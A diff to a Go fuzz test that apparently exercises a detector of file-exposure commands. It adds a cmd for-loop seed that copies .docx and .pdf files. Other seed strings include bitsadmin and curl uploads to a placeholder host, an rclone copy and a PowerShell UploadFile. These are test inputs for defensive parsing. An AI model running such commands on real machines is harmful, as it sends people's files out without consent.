@@ -120,6 +120,7 @@ func FuzzCommands(f *testing.F) {
 		`robocopy \\fs\s C:\t *.docx /E`, `bitsadmin /transfer j /upload http://x/y C:\f`, `rclone copy D:\p r:b`,
 		`powershell -c "$w.UploadFile('u', (x), 'f'); [IO.Compression.ZipFile]::CreateFromDirectory('a','b'); gci a | ? {$_} | cpi -d b"`,
 		"powershell -c \"$a = 'C:\\x'; [int]$b=$a; $c = gci $a; cpi \\\"$a\\b$a$a\\\" $b\"",
+		`cmd /c for /r D:\d %f in (*.docx *.pdf) do @copy "%f" C:	\ & for %%g in (a b) do for %%h in (c d) do (copy %%g%%h e)`,
 		`cmd /c "a^"b" 2>&1 > "x y"`, `powershell -enc ////`, `curl -F "f=@C:\a;type=x" -d @b --upload-file=[1-9]`,
 	} {
 		f.Add(s, `C:\w\`)
@@ -138,10 +139,11 @@ func FuzzCommands(f *testing.F) {
 				t.Fatalf("%d sources from %d arguments", len(a.sources), len(c.Args))
 			}
 		}
-		// With the shell's state (cd, PowerShell variables, pipelines): at
-		// most an item per command, each source bounded.
+		// With the shell's state (cd, PowerShell variables, pipelines, for
+		// loops): at most an item per command and loop pattern, each
+		// source bounded.
 		items := fromCommands(result.ExposureItem{}, cmds, cwd, "", line)
-		if len(items) > len(cmds) {
+		if len(items) > len(cmds)+4*maxForSet {
 			t.Fatalf("%d items from %d commands", len(items), len(cmds))
 		}
 		for _, it := range items {
